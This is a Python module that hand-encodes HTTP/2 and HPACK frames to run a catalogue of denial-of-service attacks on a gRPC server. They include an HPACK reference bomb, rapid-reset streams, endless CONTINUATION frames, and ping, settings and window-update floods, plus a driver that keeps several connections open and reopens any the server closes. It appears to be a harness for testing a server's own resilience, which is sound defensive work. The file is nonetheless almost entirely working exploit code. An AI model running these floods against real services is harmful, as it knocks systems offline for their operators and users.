"""Clients without an API key that attack a gRPC port with frames of HTTP/2 (RFC 9113)."""

from __future__ import annotations

import asyncio
import ssl
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass
from itertools import count

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = (8).to_bytes(4)
# Bytes of the one header that a reference bomb repeats. With the others it fits into HPACK's
# default table of 4,096 bytes.
BOMB_BYTES = 3_600
CHUNK_BYTES = 16_384


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def settings(**values: int) -> bytes:
    names = {"initial_window_size": 4}
    return frame(
        *(SETTINGS, 0, 0),
        b"".join(names[name].to_bytes(2) + value.to_bytes(4) for name, value in values.items()),
    )


def integer(value: int, prefix: int) -> bytes:
    """Returns an integer of HPACK, with no bits above the prefix."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes((value,))
    encoded, value = bytearray((limit,)), value - limit
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes((*encoded, value))


def literal(name: bytes, value: bytes, *, indexed: bool = False) -> bytes:
    """Returns a header in HPACK, without Huffman coding."""
    texts = b"".join(integer(len(text), 7) + text for text in (name, value))
    return (b"\x40" if indexed else b"\x00") + texts


def request(path: bytes = b"/roster.v1.TagService/ListTags", *, indexed: bool = False) -> bytes:
    """Returns the headers of a call."""
    return b"\x83\x86" + b"".join(
        literal(name, value, indexed=indexed)
        for name, value in (
            (b":path", path),
            (b":authority", b"localhost"),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        )
    )


EMPTY_MESSAGE = bytes(5)


def hpack_bomb() -> Iterator[bytes]:
    """Calls that stay open without a message. 12 bytes of each refer to 14 KB of headers."""
    first = request(indexed=True) + literal(b"x-bomb", b"x" * BOMB_BYTES, indexed=True)
    later = b"\x83\x86\xc2\xc1\xc0\xbf" + b"\xbe" * 4
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)


def rapid_reset() -> Iterator[bytes]:
    first, later = request(indexed=True), b"\x83\x86\xc1\xc0\xbf\xbe"
    for stream in count(1, 2):
        yield (
            frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)
            + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            + frame(RST_STREAM, 0, stream, CANCEL)
        )


def calls() -> Iterator[bytes]:
    """Complete calls without a key, more than the server can answer."""
    first, later = request(indexed=True), b"\x83\x86\xc1\xc0\xbf\xbe"
    for stream in count(1, 2):
        yield (
            frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)
            + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        )


def open_calls() -> Iterator[bytes]:
    """Calls that stay open without a message."""
    first, later = request(indexed=True), b"\x83\x86\xc1\xc0\xbf\xbe"
    for stream in count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, first if stream == 1 else later)


def large_metadata() -> Iterator[bytes]:
    headers = request() + literal(b"x-padding", b"x" * 15_000)
    for stream in count(1, 2):
        yield (
            frame(HEADERS, END_HEADERS, stream, headers)
            + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        )


def excessive_metadata() -> Iterator[bytes]:
    headers = [literal(b"x-padding", b"x" * 16_000)] * 4
    for stream in count(1, 2):
        yield frame(HEADERS, 0, stream, request())
        for header in headers:
            yield frame(CONTINUATION, 0, stream, header)
        yield frame(CONTINUATION, END_HEADERS, stream)


def continuations() -> Iterator[bytes]:
    """Headers that never end, of which each frame is valid."""
    yield frame(HEADERS, 0, 1, request())
    for number in count():
        yield frame(CONTINUATION, 0, 1, literal(b"x-%d" % number, b"x" * 100))


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, 0, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1)


def pings() -> Iterator[bytes]:
    while True:
        yield frame(PING, 0, 0, bytes(8))


def pings_in_a_call() -> Iterator[bytes]:
    """Pings during an open call, each after an empty frame of data that excuses it."""
    yield frame(HEADERS, END_HEADERS, 1, request())
    while True:
        yield frame(DATA, 0, 1) + frame(PING, 0, 0, bytes(8))


def settings_flood() -> Iterator[bytes]:
    while True:
        yield settings(initial_window_size=65_535)


def window_updates() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, request())
    for number in count():
        yield frame(WINDOW_UPDATE, 0, 1 if number % 2 else 0, (1).to_bytes(4))


def empty_data() -> Iterator[bytes]:
    yield frame(HEADERS, END_HEADERS, 1, request())
    while True:
        yield frame(DATA, 0, 1)


def silent() -> Iterator[bytes]:
    """A connection that sends nothing after the preface."""
    yield b""


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (
        *(hpack_bomb, rapid_reset, calls, open_calls, large_metadata, excessive_metadata),
        *(continuations, empty_continuations, pings, pings_in_a_call, settings_flood),
        *(window_updates, empty_data, silent),
    )
}


@dataclass
class Report:
    """What an attack did: connections that it opened, and those that the server closed."""

    opened: int = 0
    closed: int = 0
    refused: int = 0
    bytes_sent: int = 0


async def attack(
    name: str,
    address: str,
    seconds: float,
    *,
    connections: int = 8,
    bytes_per_second: int = 1_000_000,
    reads: bool = True,
    source: str = "127.0.0.1",
    tls: bool = False,
) -> Report:
    """Runs an attack over connections that share a bandwidth. Opens another for each closed one."""
    context = ssl.create_default_context() if tls else None
    if context is not None:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
    report = Report()
    host, _, port = address.rpartition(":")
    pause = CHUNK_BYTES * connections / bytes_per_second

    async def one() -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(
                    host, int(port), ssl=context, local_addr=(source, 0)
                )
            except OSError:
                report.refused += 1
                await asyncio.sleep(0.1)
                continue
            report.opened += 1
            reading = asyncio.create_task(_discard(reader)) if reads else None
            try:
                writer.write(PREFACE + settings() + frame(SETTINGS, ACK, 0))
                chunk = bytearray()
                for part in ATTACKS[name]():
                    chunk += part
                    if len(chunk) < CHUNK_BYTES:
                        continue
                    writer.write(bytes(chunk))
                    report.bytes_sent += len(chunk)
                    chunk.clear()
                    await writer.drain()
                    await asyncio.sleep(pause)
                    if reading is not None and reading.done():
                        raise ConnectionResetError
                await (reading or asyncio.Event().wait())
                report.closed += 1
            except OSError:
                report.closed += 1
            finally:
                writer.transport.abort()
            await asyncio.sleep(0.01)

    tasks = [asyncio.create_task(one()) for _ in range(connections)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    return report


async def _discard(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(1 << 16):
            pass
